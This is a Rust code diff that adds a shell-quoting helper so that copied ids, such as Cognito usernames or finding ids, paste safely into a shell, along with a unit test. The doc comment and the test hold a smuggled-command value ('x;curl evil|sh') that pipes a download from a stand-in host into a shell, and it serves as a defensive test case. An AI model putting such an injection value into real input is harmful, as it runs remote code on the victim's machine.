@@ -35,6 +35,17 @@ pub fn fit(text: &str, width: usize) -> String {
     out
 }
 
+/// An id as one shell word: left as it is when it holds only characters no shell treats
+/// specially, else single-quoted. A copied id is pasted into a shell; a Cognito username or a
+/// custom finding id can be `x;curl evil|sh`.
+pub fn shell_word(text: &str) -> String {
+    let plain = |c: char| c.is_ascii_alphanumeric() || "@%+=:,./_-".contains(c);
+    if !text.is_empty() && text.chars().all(plain) {
+        return text.to_string();
+    }
+    format!("'{}'", text.replace('\'', "'\\''"))
+}
+
 /// Sanitised, on one line (line breaks become spaces).
 pub fn one_line(text: &str) -> std::borrow::Cow<'_, str> {
     sanitize(text)
@@ -141,6 +152,14 @@ mod tests {
         assert_eq!(fit("abc", 4), "abc");
         assert_eq!(fit("日本語テキスト", 5), "日本…");
         assert_eq!(fit("a\u{1b}[31mb", 5), "ab");
+    }
+
+    #[test]
+    fn a_copied_id_is_one_inert_shell_word() {
+        assert_eq!(shell_word("arn:aws:s3:::bucket/key-1"), "arn:aws:s3:::bucket/key-1");
+        assert_eq!(shell_word("x;curl${IFS}evil|sh"), "'x;curl${IFS}evil|sh'");
+        assert_eq!(shell_word("it's"), "'it'\\''s'");
+        assert_eq!(shell_word(""), "''");
     }
 
     #[test]
